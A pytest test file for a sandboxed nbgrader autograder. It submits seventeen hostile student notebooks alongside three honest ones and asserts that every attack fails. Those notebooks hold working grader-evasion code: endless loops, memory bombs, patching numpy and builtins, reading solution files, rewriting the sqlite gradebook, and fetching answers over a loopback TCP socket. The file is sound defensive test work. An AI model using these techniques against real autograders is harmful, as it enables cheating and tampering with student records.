"""Hostile submissions against the real ``nbgrader autograde``, sandbox on.

One temporary copy of the course (its own ``nbgrader_config.py``, so the
sandboxed kernel of ``exercises/taylornet_grader/sandbox.py`` and the feedback filter of
``exercises/taylornet_grader/feedback.py``) grades ``ps01_first_order`` for twenty
students in ONE ``autograde`` run: three honest submissions (all solved, the
untouched release, a mix of wrong, reference-calling and correct answers) and
seventeen hostile ones. Each hostile notebook is fully solved except for one
exercise, where it attacks the grader:

=====================  ===================  ==========================================
student                exercise             attack
=====================  ===================  ==========================================
hostile_loop           gd_step              endless loop that swallows the interrupt
hostile_exit           momentum_step        ``os._exit`` inside the function
hostile_memory         nesterov_step        memory bomb (touched 64 MiB blocks)
hostile_edit_test      adam_step            visible test cell edited to ``pass``
hostile_delete_test    rmsprop_step         test cell deleted
hostile_patch_numpy    clip_grad_norm       ``np.allclose`` / ``np.testing`` patched
hostile_reference      gd_step              calls the ``taylornet`` reference
hostile_read_secrets   momentum_step        solution copied from ``source/`` / gradebook
hostile_sqlite         nesterov_step        rewrites the gradebook with sqlite3
hostile_network        adam_step            fetches the answer over TCP
hostile_rebind         gd_step              rebinds every taylornet function it can reach
hostile_hooks          momentum_step        IPython input transformer / post-run hook
hostile_builtins       nesterov_step        patches builtins and NumPy's comparisons
hostile_history        adam_step            searches history and heap for hidden tests
hostile_shared_memory  rmsprop_step         memfd and /dev/shm past the memory cap
hostile_spawn          clip_grad_norm       bounded spawn loop past the process cap
hostile_forge          momentum_step        forges the call report the grader reads
=====================  ===================  ==========================================

(the first six are also wrong in the attacked exercise where the attack is a
cover-up). Required: the run completes; each hostile student loses exactly the
points of the attacked exercise; the honest grades equal those of a solo run
(each honest student graded alone in a second course); the gradebook is intact
(a snapshot of every row not owned by the gradebook writer is unchanged by
grading it again); nothing is written outside the sandbox's scratch folder, and
nothing connects to the test's TCP server. A last test generates the feedback
and checks that it shows the points but no line of the hidden tests.
"""

from __future__ import annotations

import html
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
import types
import uuid
from pathlib import Path

import nbformat
import pytest
from test_grading_roundtrip import (
    COURSE_ID,
    EXERCISES,
    POINTS,
    _course_config,
    _submission,
    _write,
    cell_by_id,
    expected_scores,
    first_wrong,
    grade_id,
    hidden_region,
    source_nb,
    strip_solution_markers,
    submissions,
)

pytestmark = [
    pytest.mark.grading,
    pytest.mark.filterwarnings("ignore:Object of type <Submitted"),
]

ASSIGNMENT = "ps01_first_order"
HONEST = ("honest_mixed", "honest_solutions", "honest_untouched")
TIMEOUT = 15         # seconds per cell (the course default is 60)
MEMORY = "512M"      # the kernel's memory cap in these tests (the course default is 4G)
MAX_PROCESSES = 48   # processes the kernel may add (the course default is 64)

# ---------------------------------------------------------------- the attacks
LOOP = '''
while True:  # an endless loop that ignores the timeout's KeyboardInterrupt
    try:
        while True:
            pass
    except KeyboardInterrupt:
        pass

{solution}
'''

EXIT = '''
import os


def momentum_step(x, v, g, lr, beta):
    os._exit(3)
'''

MEMORY_BOMB = '''
import numpy as np


def nesterov_step(x, v, g, lr, beta):
    blocks = []
    while True:
        blocks.append(np.ones(2**23))  # 64 MiB, touched
'''

PATCH_NUMPY = '''
import numpy as np

np.allclose = lambda *args, **kwargs: True
np.isclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_almost_equal = lambda *args, **kwargs: None

{wrong}
'''

REFERENCE = '''
def gd_step(x, g, lr):
    from taylornet.rules import gd_step as reference
    return reference(x, g, lr)
'''

# Copies the solution out of the instructor's files; prints LEAK if any read works.
READ_SECRETS = '''
import glob
import json
import os
import sqlite3

ROOT = {root!r}
found = None
for path in [os.path.join(ROOT, "source", "ps01_first_order", "ps01_first_order.ipynb"),
             "../../../source/ps01_first_order/ps01_first_order.ipynb",
             "../../../release/ps01_first_order/ps01_first_order.ipynb",
             *glob.glob(os.path.join(ROOT, "**", "*.ipynb"), recursive=True),
             *glob.glob("*.ipynb")]:
    try:
        with open(path) as f:
            text = f.read()
    except OSError:
        continue
    if "HIDDEN TESTS" in text or "BEGIN SOLUTION" in text:
        print("LEAK", path)
        for cell in json.loads(text)["cells"]:
            if cell["metadata"].get("nbgrader", {{}}).get("grade_id") == "momentum_step_solution":
                found = "".join(cell["source"])
for db in [os.path.join(ROOT, "gradebook.db"), "../../../gradebook.db"]:
    try:
        row = sqlite3.connect("file:" + db + "?mode=ro", uri=True).execute(
            "SELECT source FROM source_cell WHERE name = 'momentum_step_solution'").fetchone()
    except sqlite3.Error:
        continue
    print("LEAK", db)
    found = row[0]
if found:
    exec(found)
else:
    def momentum_step(x, v, g, lr, beta):
        raise RuntimeError("could not read the instructor's files")
'''

# A file name in /tmp, new for each run: the sandbox's /tmp is a private tmpfs, so
# the write succeeds there and must not appear on the host.
SCRATCH = f"/tmp/taylornet-hostile-{uuid.uuid4().hex}.txt"

# Rewrites grades, students and hidden tests in the gradebook, and drops files.
SQLITE = '''
import os
import sqlite3

ROOT = {root!r}
for db in [os.path.join(ROOT, "gradebook.db"), "../../../gradebook.db"]:
    try:
        con = sqlite3.connect(db)
        con.execute("UPDATE grade SET auto_score = 99, manual_score = 99")
        con.execute("UPDATE student SET first_name = 'pwned'")
        con.execute("UPDATE source_cell SET source = 'pass'")
        con.commit()
        print("WROTE", db)
    except sqlite3.Error as exc:
        print("refused", db, exc)
for path in [os.path.join(ROOT, "pwned.txt"),
             os.path.join(ROOT, "source", "ps01_first_order", "pwned.txt"),
             os.path.join(ROOT, "autograded", "honest_solutions", "ps01_first_order", "pwned.txt"),
             "pwned.txt", {scratch!r}]:
    try:
        with open(path, "w") as f:
            f.write("pwned")
        print("WROTE", path)
    except OSError as exc:
        print("refused", path, exc)

{wrong}
'''

NETWORK = '''
import socket

try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
        exec(s.makefile().read())
    print("CONNECTED")
except OSError as exc:
    print("no network:", exc)

    def adam_step(x, m, v, g, t, lr, beta1=0.9, beta2=0.999, eps=1e-8):
        raise RuntimeError("could not download the answer")
'''


# --- attacks on the grader itself: its helpers, IPython, builtins, history, limits, format
REBIND_HELPERS = '''
import sys

# Rebind and rewrite every function of every taylornet module the kernel can import,
# and try to import the hidden tests' checks so as to rebind them before they are used.
for module_name in [m for m in list(sys.modules) if m.startswith("taylornet")]:
    module = sys.modules[module_name]
    for attr in dir(module):
        if callable(getattr(module, attr)) and not attr.startswith("__"):
            setattr(module, attr, lambda *args, **kwargs: None)
for name in ("check_against_reference", "run_student", "check_raises", "reference"):
    try:
        exec(f"from taylornet.grading import {{name}}")
        print("IMPORTED", name)
    except ImportError:
        pass

{wrong}
'''

IPYTHON_HOOKS = '''
ip = get_ipython()


def neuter(lines):  # any later cell that checks becomes `pass`
    text = "".join(lines)
    if "check_against_reference" in text or "expect_" in text or "HIDDEN" in text:
        return ["pass\\n"]
    return lines


ip.input_transformers_post.append(neuter)
ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))

{wrong}
'''

PATCH_BUILTINS = '''
import builtins

import numpy as np

builtins.AssertionError = type("AssertionError", (Exception,), {{}})  # `except` misses it
np.allclose = np.isclose = np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None

{wrong}
'''

# Looks everywhere in its own process for the hidden tests of the cells graded before.
READ_HISTORY = '''
import gc

ip = get_ipython()
texts = [*ip.user_ns.get("In", []), *ip.user_ns.get("_ih", [])]
texts += [str(v) for v in ip.user_ns.get("Out", {{}}).values()]
texts += [cell for _, _, cell in ip.history_manager.get_range(raw=True)]
texts += [o for o in gc.get_objects() if isinstance(o, str) and len(o) < 100000]
marker, checker = "BEGIN " + "HIDDEN", "check_against" + "_reference"  # not in this source
found = [t for t in texts if t is not marker and t is not checker and (marker in t or checker in t)]
print("FOUND", len(found))
for text in found[:3]:
    print(text[:300])

{wrong}
'''

# Shared memory outside RLIMIT_DATA: a memfd filled past the cap, then /dev/shm.
SHARED_MEMORY = '''
import os


def rmsprop_step(x, s, g, lr, alpha=0.99, eps=1e-8):
    chunk = b"x" * 2**24
    fd = os.memfd_create("hoard")
    for _ in range(48):  # 768 MiB, past the 512 MiB cap
        os.write(fd, chunk)
    with open("/dev/shm/hoard", "wb") as f:
        for _ in range(48):
            f.write(chunk)
    import time
    time.sleep(30)
    return x
'''

# A bounded spawn loop (never a real fork bomb): how many processes does the cap allow?
SPAWN = '''
import subprocess

children = []
for _ in range(300):
    try:
        children.append(subprocess.Popen(["sleep", "20"]))
    except OSError:
        break
print("SPAWNED", len(children))
for child in children:
    child.kill()
    child.wait()

{wrong}
'''

# Forges what the grader reads back from a call: a malformed report with a pickled array.
FORGE = '''
import base64
import io

import numpy as np

buffer = io.BytesIO()
np.save(buffer, np.array([object()], dtype=object), allow_pickle=True)
_real_call = None


def momentum_step(x, v, g, lr, beta):
    global _real_call
    table = globals()["__taylornet__"]
    if _real_call is None:
        _real_call = table["kernel_call"]

        def forged(namespace, name, payload):
            if name != "momentum_step":
                return _real_call(namespace, name, payload)
            pickled = {{"ndarray": base64.b64encode(buffer.getvalue()).decode()}}
            return {{"value": {{"tuple": [pickled, pickled]}}, "args_after": [],
                    "calls": [[0, {{"bogus": 1}}, None]]}}

        table["kernel_call"] = forged
    return x, v
'''


def solution(name):
    return strip_solution_markers(cell_by_id(source_nb(ASSIGNMENT), f"{name}_solution").source)


def hostile_submissions(release_nb, root: Path, port: int):
    """``{student: (notebook, attacked exercise)}``."""
    source = source_nb(ASSIGNMENT)
    wrong = {name: first_wrong(ASSIGNMENT, name) for name in POINTS[ASSIGNMENT]}
    plan = {
        "hostile_loop": ("gd_step", LOOP.format(solution=solution("gd_step"))),
        "hostile_exit": ("momentum_step", EXIT),
        "hostile_memory": ("nesterov_step", MEMORY_BOMB),
        "hostile_edit_test": ("adam_step", wrong["adam_step"]),
        "hostile_delete_test": ("rmsprop_step", wrong["rmsprop_step"]),
        "hostile_patch_numpy": ("clip_grad_norm",
                                PATCH_NUMPY.format(wrong=wrong["clip_grad_norm"])),
        "hostile_reference": ("gd_step", REFERENCE),
        "hostile_read_secrets": ("momentum_step", READ_SECRETS.format(root=str(root))),
        "hostile_sqlite": ("nesterov_step",
                           SQLITE.format(root=str(root), wrong=wrong["nesterov_step"],
                                         scratch=SCRATCH)),
        "hostile_network": ("adam_step", NETWORK.format(port=port)),
        "hostile_rebind": ("gd_step", REBIND_HELPERS.format(wrong=wrong["gd_step"])),
        "hostile_hooks": ("momentum_step", IPYTHON_HOOKS.format(wrong=wrong["momentum_step"])),
        "hostile_builtins": ("nesterov_step",
                             PATCH_BUILTINS.format(wrong=wrong["nesterov_step"])),
        "hostile_history": ("adam_step", READ_HISTORY.format(wrong=wrong["adam_step"])),
        "hostile_shared_memory": ("rmsprop_step", SHARED_MEMORY),
        "hostile_spawn": ("clip_grad_norm", SPAWN.format(wrong=wrong["clip_grad_norm"])),
        "hostile_forge": ("momentum_step", FORGE),
    }
    subs = {}
    for student, (name, code) in plan.items():
        nb = _submission(release_nb, source, {name: code})
        if student == "hostile_edit_test":
            cell_by_id(nb, "adam_step_tests").source = "pass"
        if student == "hostile_delete_test":
            nb.cells = [c for c in nb.cells if grade_id(c) != "rmsprop_step_tests"]
        subs[student] = (nb, name)
    return subs


# ---------------------------------------------------------------- the course
def _bwrap_or_skip():
    if shutil.which("bwrap") is None:
        if os.environ.get("CI"):
            pytest.fail("bubblewrap is not installed (the Makefile installs it in CI)")
        pytest.skip("bubblewrap is not installed: apt-get install bubblewrap")


def make_course(tmp_path_factory, name):
    from nbgrader.apps import NbGraderAPI

    root = tmp_path_factory.mktemp(name)
    shutil.copy(EXERCISES / "nbgrader_config.py", root)
    shutil.copytree(EXERCISES / "taylornet_grader", root / "taylornet_grader",  # the grader's side
                    ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(EXERCISES / "source" / ASSIGNMENT, root / "source" / ASSIGNMENT)
    config = _course_config(root)
    config.ExecutePreprocessor.timeout = TIMEOUT
    config.Execute.timeout = TIMEOUT
    config.SandboxKernelManager.mode = "bwrap"  # fail, not fall back, if bwrap is missing
    config.SandboxKernelManager.memory_limit = MEMORY
    config.SandboxKernelManager.max_processes = MAX_PROCESSES
    config.SandboxedExecute.interrupt_grace = 3
    api = NbGraderAPI(config=config)
    result = api.generate_assignment(ASSIGNMENT)
    assert result["success"], result.get("error", "") + result.get("log", "")
    release = nbformat.read(root / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    return types.SimpleNamespace(root=root, api=api, config=config, release=release)


def read_scores(course, students):
    from nbgrader.api import Gradebook

    with Gradebook(course.api.coursedir.db_url, course_id=COURSE_ID) as gb:
        return {
            student: {g.name.removesuffix("_tests"): g.score
                      for g in gb.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, student).grades}
            for student in students
        }


def honest_submissions(release):
    subs = submissions(ASSIGNMENT, release)
    return {"honest_solutions": subs["solutions"], "honest_untouched": subs["untouched"],
            "honest_mixed": subs["mixed_0"]}


class _Server:
    """A TCP server on the host's loopback that hands out the Adam solution."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            with conn:
                conn.sendall(solution("adam_step").encode())

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """One ``autograde`` run of 3 honest and 17 hostile submissions, plus the solo runs."""
    _bwrap_or_skip()
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("PATH", os.path.dirname(sys.executable) + os.pathsep + os.environ["PATH"])
        for var in [v for v in os.environ if v.startswith("TAYLORNET_SANDBOX")]:
            mp.delenv(var)
        server = _Server()
        try:
            course = make_course(tmp_path_factory, "hostile_course")
            honest = honest_submissions(course.release)
            hostile = hostile_submissions(course.release, course.root, server.port)
            for student, nb in {**honest, **{s: nb for s, (nb, _) in hostile.items()}}.items():
                _write(nb, course.root / "submitted" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
            result = course.api.autograde(ASSIGNMENT, "*")
        finally:
            server.close()

        solo = make_course(tmp_path_factory, "solo_course")
        solo_scores = {}
        for student, nb in honest_submissions(solo.release).items():
            _write(nb, solo.root / "submitted" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
            solo_result = solo.api.autograde(ASSIGNMENT, student)
            assert solo_result["success"], solo_result.get("log", "")
            solo_scores.update(read_scores(solo, [student]))

        students = [*honest, *hostile]
        yield types.SimpleNamespace(
            course=course, result=result, log=result.get("log", ""), hostile=hostile,
            students=students, scores=read_scores(course, students), solo=solo_scores,
            connections=server.connections, mp=mp)


def autograded(course, student):
    path = course.root / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    return nbformat.read(path, as_version=4)


def outputs_text(nb):
    parts = []
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            parts.append(out.get("text", ""))
            parts.append(f"{out.get('ename', '')}: {out.get('evalue', '')}")
    return "\n".join(parts)


# ---------------------------------------------------------------- the tests
@pytest.mark.slow
def test_autograde_run_completes_for_every_student(graded):
    assert graded.result["success"], graded.log
    for student in graded.students:
        assert (graded.course.root / "autograded" / student / ASSIGNMENT
                / f"{ASSIGNMENT}.ipynb").exists(), student
    assert "taylornet sandbox: bubblewrap" in graded.log
    assert "WARNING bubblewrap" not in graded.log


@pytest.mark.slow
def test_honest_grades_equal_their_solo_grades(graded):
    expected = expected_scores(ASSIGNMENT)
    assert graded.solo["honest_solutions"] == expected["solutions"]
    assert graded.solo["honest_untouched"] == expected["untouched"]
    assert graded.solo["honest_mixed"] == expected["mixed_0"]
    for student in HONEST:
        assert graded.scores[student] == graded.solo[student], student


@pytest.mark.slow
@pytest.mark.parametrize("student", [
    "hostile_loop", "hostile_exit", "hostile_memory", "hostile_edit_test",
    "hostile_delete_test", "hostile_patch_numpy", "hostile_reference",
    "hostile_read_secrets", "hostile_sqlite", "hostile_network", "hostile_rebind",
    "hostile_hooks", "hostile_builtins", "hostile_history", "hostile_shared_memory",
    "hostile_spawn", "hostile_forge",
])
def test_hostile_submission_loses_exactly_the_attacked_exercise(graded, student):
    attacked = graded.hostile[student][1]
    expected = {**POINTS[ASSIGNMENT], attacked: 0}
    assert graded.scores[student] == expected, (student, graded.log[-3000:])


@pytest.mark.slow
def test_how_each_attack_failed(graded):
    course = graded.course

    def error(student, gid):
        cell = cell_by_id(autograded(course, student), gid)
        return "\n".join(f"{o.ename}: {o.evalue}" for o in cell.outputs
                         if o.output_type == "error")

    assert "KernelUnresponsive" in error("hostile_loop", "gd_step_solution")
    assert "KernelDied" in error("hostile_exit", "momentum_step_tests")
    assert "MemoryError" in error("hostile_memory", "nesterov_step_tests")
    # the edited and the deleted test cells are back, with their hidden tests
    for student, gid in (("hostile_edit_test", "adam_step_tests"),
                         ("hostile_delete_test", "rmsprop_step_tests")):
        cell = cell_by_id(autograded(course, student), gid)
        assert "### BEGIN HIDDEN TESTS" in cell.source and "GradingFailure" in error(student, gid)
    assert "GradingFailure" in error("hostile_patch_numpy", "clip_grad_norm_tests")
    assert "is not available while a notebook is graded" in error("hostile_reference",
                                                                   "gd_step_tests")

    secrets = outputs_text(autograded(course, "hostile_read_secrets"))
    assert "LEAK" not in secrets
    assert "could not read the instructor's files" in secrets

    writes = outputs_text(autograded(course, "hostile_sqlite"))
    assert f"WROTE {SCRATCH}" in writes  # the scratch folder is writable
    assert "WROTE" not in "".join(line for line in writes.splitlines() if "gradebook" in line)
    # whatever else "worked" went to the sandbox's scratch tmpfs (this course lives in
    # /tmp too): none of it reached the real files
    for line in writes.splitlines():
        if line.startswith("WROTE"):
            path = Path(line.split(maxsplit=1)[1])
            assert path.is_relative_to("/tmp"), line
            assert not path.exists() or "pwned" not in path.read_text(), line
    assert not list(course.root.rglob("pwned.txt"))

    network = outputs_text(autograded(course, "hostile_network"))
    assert "CONNECTED" not in network and "no network:" in network
    assert graded.connections == 0

    # the grader's checks are not in the kernel: nothing there to import, rebind or read
    assert "IMPORTED" not in outputs_text(autograded(course, "hostile_rebind"))
    history = outputs_text(autograded(course, "hostile_history"))
    assert "FOUND 0" in history, history
    assert "ok: " in outputs_text(autograded(course, "hostile_hooks"))  # verdicts still written
    # the limits: the process cap holds (the kernel runs unprivileged), and shared memory
    # past the cap kills the kernel
    spawned = re.search(r"SPAWNED (\d+)", outputs_text(autograded(course, "hostile_spawn")))
    assert spawned and int(spawned.group(1)) < MAX_PROCESSES, spawned
    assert "KernelDied" in error("hostile_shared_memory", "rmsprop_step_tests")
    assert "past the memory limit" in graded.log
    assert error("hostile_forge", "momentum_step_tests")  # a forged report is a failure


def _snapshot(db: Path, exclude: str) -> dict[str, set]:
    """Every row of the gradebook except those owned by student ``exclude``."""
    con = sqlite3.connect(db)
    try:
        tables = [r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        owner = {"submitted_assignment": dict(con.execute(
            "SELECT id, student_id FROM submitted_assignment"))}
        owner["submitted_notebook"] = {i: owner["submitted_assignment"][a] for i, a in con.execute(
            "SELECT id, assignment_id FROM submitted_notebook")}
        snap = {}
        for table in tables:
            cols = [r[1] for r in con.execute(f"PRAGMA table_info({table})")]
            rows = con.execute(f"SELECT * FROM {table}").fetchall()
            if table == "student":
                rows = [r for r in rows if r[cols.index("id")] != exclude]
            elif table in owner:
                rows = [r for r in rows if owner[table][r[cols.index("id")]] != exclude]
            elif "notebook_id" in cols and table in ("grade", "comment"):
                rows = [r for r in rows
                        if owner["submitted_notebook"][r[cols.index("notebook_id")]] != exclude]
            snap[table] = set(rows)
        return snap
    finally:
        con.close()


@pytest.mark.slow
def test_gradebook_intact_after_the_writer_is_graded_again(graded):
    course = graded.course
    db = course.root / "gradebook.db"
    with sqlite3.connect(db) as con:
        assert con.execute("SELECT count(*) FROM grade WHERE auto_score = 99").fetchone()[0] == 0
        assert con.execute(
            "SELECT count(*) FROM student WHERE first_name = 'pwned'").fetchone()[0] == 0
        assert con.execute(
            "SELECT count(*) FROM source_cell WHERE source = 'pass'").fetchone()[0] == 0
    before = _snapshot(db, exclude="hostile_sqlite")
    assert before["grade"] and before["source_cell"]
    result = course.api.autograde(ASSIGNMENT, "hostile_sqlite", force=True)
    assert result["success"], result.get("log", "")
    assert _snapshot(db, exclude="hostile_sqlite") == before
    assert read_scores(course, ["hostile_sqlite"])["hostile_sqlite"] == {
        **POINTS[ASSIGNMENT], "nesterov_step": 0}


def _plain(text: str) -> str:
    """The text a browser shows for an HTML page (tags dropped, entities decoded)."""
    return html.unescape(re.sub(r"<[^>]+>", "", text))


def _hidden_lines():
    shown = "\n".join(c.source[: c.source.index("### BEGIN HIDDEN TESTS")]
                      for c in source_nb(ASSIGNMENT).cells if "HIDDEN TESTS" in c.source)
    lines = set()
    for cell in source_nb(ASSIGNMENT).cells:
        if "### BEGIN HIDDEN TESTS" in cell.source:
            lines.update(line.strip() for line in hidden_region(cell.source).splitlines()
                         if len(line.strip()) > 20 and line.strip() not in shown)
    return sorted(lines)


@pytest.mark.slow
def test_feedback_shows_points_but_no_hidden_test(graded):
    from nbconvert import HTMLExporter

    course = graded.course
    hidden = _hidden_lines()
    assert len(hidden) > 20
    students = ["honest_mixed", "honest_solutions", "hostile_read_secrets", "hostile_edit_test"]
    for student in students:
        result = course.api.generate_feedback(ASSIGNMENT, student)
        assert result["success"], result.get("log", "")
    for student in students:
        # the autograded notebook keeps the hidden tests (this check can see them) ...
        stock, _ = HTMLExporter().from_notebook_node(autograded(course, student))
        assert any(line in _plain(stock) for line in hidden), student
        # ... the feedback shows none of them, but the score of every test cell
        page = (course.root / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html")
        text = _plain(page.read_text(encoding="utf-8"))
        leaked = [line for line in hidden if line in text]
        assert not leaked, (student, leaked[:3])
        assert "hidden tests: not shown in the feedback" in text
        scores = graded.scores[student]
        total = sum(scores.values())
        assert re.search(rf"Score:\s*{total}(\.0)?\s*/\s*{sum(POINTS[ASSIGNMENT].values())}",
                         text), (student, total)
        for name, points in POINTS[ASSIGNMENT].items():
            assert re.search(rf"{scores[name]}(\.0)?\s*/\s*{points}(\.0)?\s*points", text) or \
                re.search(rf"\(Score:\s*{scores[name]}(\.0)?\s*/\s*{points}(\.0)?\)", text), \
                (student, name)


@pytest.mark.slow
def test_fallback_without_bubblewrap_warns_in_the_autograde_log(graded, tmp_path):
    """The real CLI, bubblewrap made unavailable: limits only, and a WARNING line in the log."""
    course = graded.course
    env = {**os.environ, "TAYLORNET_SANDBOX_BWRAP": "/nonexistent/bwrap",
           "PATH": os.path.dirname(sys.executable) + os.pathsep + os.environ["PATH"]}
    env.pop("TAYLORNET_SANDBOX", None)
    # the CLI reads the course's nbgrader_config.py, the stock one ("auto" mode)
    proc = subprocess.run(
        [os.path.join(os.path.dirname(sys.executable), "nbgrader"), "autograde", ASSIGNMENT,
         "--student", "honest_solutions", "--force", "--Exchange.root", str(tmp_path)],
        cwd=course.root, env=env, capture_output=True, text=True, timeout=300)
    log = proc.stdout + proc.stderr
    assert proc.returncode == 0, log[-3000:]
    warnings = [line for line in log.splitlines() if "WARNING bubblewrap" in line]
    assert warnings and "resource limits ONLY" in warnings[0], log[-3000:]
    assert read_scores(course, ["honest_solutions"])["honest_solutions"] == POINTS[ASSIGNMENT]


# ---------------------------------------------------------------- fast unit tests
def test_parse_size():
    from taylornet_grader.sandbox import parse_size

    assert parse_size("4G") == 4 * 2**30
    assert parse_size("512M") == parse_size("512MiB") == 512 * 2**20
    assert parse_size("1.5g") == 3 * 2**29
    assert parse_size(1000) == parse_size("1000") == 1000
    for bad in ("", "lots", "-1G", "0"):
        with pytest.raises(ValueError):
            parse_size(bad)


def test_kernel_manager_settings(monkeypatch):
    from taylornet_grader.sandbox import SandboxKernelManager

    with pytest.raises(ValueError, match="auto, bwrap, limits or off"):
        SandboxKernelManager(mode="sometimes")
    monkeypatch.setenv("TAYLORNET_SANDBOX_MEMORY", "2G")
    monkeypatch.setenv("TAYLORNET_SANDBOX_CPU", "30")
    km = SandboxKernelManager(memory_limit="8G")
    try:
        assert (km.memory_limit, km.cpu_limit, km.transport) == ("2G", 30, "ipc")
        assert os.path.dirname(km.connection_file) == km._private
        assert km.ip.startswith(km._private)  # the ipc sockets live in the private folder
    finally:
        shutil.rmtree(km._private)
    monkeypatch.setenv("TAYLORNET_SANDBOX_MEMORY", "much")
    with pytest.raises(ValueError, match="not a size"):
        SandboxKernelManager()


def test_bwrap_command_shows_only_the_submission(tmp_path):
    from taylornet_grader.sandbox import _read_only_paths, bwrap_command

    course = tmp_path / "course"
    cwd = course / "autograded" / "alice" / ASSIGNMENT
    cwd.mkdir(parents=True)
    (cwd / f"{ASSIGNMENT}.ipynb").write_text("{}")
    (course / "gradebook.db").write_text("")
    private = tmp_path / "private"
    private.mkdir()
    ro = _read_only_paths(["taylornet"], [])
    assert any(Path(p, "grading.py").exists() or Path(p, "taylornet").exists() for p in ro)
    assert not any(str(EXERCISES).startswith(p.rstrip("/") + "/") or str(EXERCISES) == p
                   for p in ro), "the course folder of the repository must not be visible"
    cmd = bwrap_command(["python"], bwrap="bwrap", cwd=str(cwd), private=str(private),
                        ro_paths=ro, tmp_size=2**20, env={"HOME": "/tmp"})
    assert cmd[-2:] == ["--", "python"]
    assert {"--unshare-all", "--clearenv", "--die-with-parent"} <= set(cmd)
    binds = [(cmd[i], cmd[i + 1], cmd[i + 2]) for i, a in enumerate(cmd)
             if a in ("--bind", "--ro-bind")]
    writable = [dest for kind, _, dest in binds if kind == "--bind"]
    assert writable == [str(private)]
    sources = [src for _, src, _ in binds]
    assert str(course) not in sources and str(course / "gradebook.db") not in sources
    assert ("--ro-bind", str(cwd), str(cwd)) in binds
    assert ("--ro-bind", "/dev/null", str(cwd / f"{ASSIGNMENT}.ipynb")) in binds
    assert cmd[cmd.index("--chdir") + 1] == str(cwd)


def test_feedback_filter_removes_hidden_source_and_echoes():
    from nbformat.v4 import new_code_cell, new_notebook, new_output
    from taylornet_grader.feedback import HideHiddenTests

    secret = "check_against_reference(adam_step, 'adam_step', SECRET_CASES)"
    source = f"expect_close('x', f(1), 2)\n### BEGIN HIDDEN TESTS\n{secret}\n### END HIDDEN TESTS"
    test = new_code_cell(source, metadata={"nbgrader": {"grade": True, "solution": False,
                                                         "grade_id": "f_tests", "points": 2}})
    test.outputs = [
        new_output("stream", name="stdout", text=f"ok: x = 2\nleaked: {secret}\n"),
        new_output("error", ename="AssertionError", evalue="f is wrong in case 3",
                   traceback=[f"\x1b[0;31m----> 3\x1b[0m {secret}", "AssertionError: f is wrong"]),
    ]
    later = new_code_cell("print(In[-2])")
    coloured = f"ValueError: \x1b[1m{secret[:20]}\x1b[0m{secret[20:]}"
    later.outputs = [new_output("error", ename="ValueError", evalue=secret,
                                traceback=[coloured])]
    nb, _ = HideHiddenTests().preprocess(new_notebook(cells=[test, later]), {})
    text = nbformat.writes(nb)
    assert "SECRET_CASES" not in text and "BEGIN HIDDEN TESTS" not in text
    assert "expect_close('x', f(1), 2)" in nb.cells[0].source
    assert "1 lines of hidden tests" not in nb.cells[0].source  # 3 lines: markers included
    assert "3 lines of hidden tests: not shown" in nb.cells[0].source
    assert nb.cells[0].outputs[1].traceback == ["AssertionError: f is wrong in case 3"]
    assert "ok: x = 2" in nb.cells[0].outputs[0].text
    assert "[hidden test]" in nb.cells[0].outputs[0].text
    assert "[hidden test]" in nb.cells[1].outputs[0].evalue
